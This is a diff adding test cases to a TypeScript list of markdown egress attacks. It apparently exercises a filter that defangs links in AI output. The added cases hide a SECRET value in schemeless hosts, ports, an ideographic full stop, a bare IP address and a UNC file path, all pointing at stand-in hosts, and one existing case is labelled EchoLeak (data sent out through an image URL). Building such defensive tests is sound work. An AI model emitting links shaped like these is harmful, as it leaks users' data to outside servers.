@@ -2,6 +2,20 @@
 import { attack, type EgressAttack } from './attack.ts';
 
 export const markdownAttacks: readonly EgressAttack[] = [
+  attack('a host without a scheme', 'See e.example/?q=SECRET now', ['followed e.example/?q=SECRET'], 'See {} now'),
+  attack('a host without a scheme, in parentheses', '(e.example/SECRET)', ['followed e.example/SECRET'], '({})'),
+  attack('a host with a query and no path', 'e.example?q=SECRET', ['followed e.example?q=SECRET'], '{}'),
+  attack('a host with a port', 'e.example:443/SECRET', ['followed e.example:443/SECRET'], '{}'),
+  attack('a host after two slashes', 'See //e.example/SECRET', ['followed //e.example/SECRET'], 'See {}'),
+  attack('a link without a scheme', '[click](e.example/SECRET)', ['followed e.example/SECRET'], 'click {}'),
+  attack('a host with an ideographic full stop', 'e\u3002example/SECRET', ['followed e\u3002example/SECRET'], '{}'),
+  attack(
+    'a number in place of a host',
+    'See 192.0.2.7/SECRET',
+    ['followed 192.0.2.7/SECRET'],
+    'See (address withheld: 192[.]0[.]2[.]7)',
+  ),
+  attack('a file server', 'Open \\\\e.example\\SECRET', ['followed \\\\e.example\\SECRET'], 'Open {}'),
   attack(
     'image with data in the query (EchoLeak)',
     'Here you are. ![logo](https://e.example/l.png?d=SECRET)',
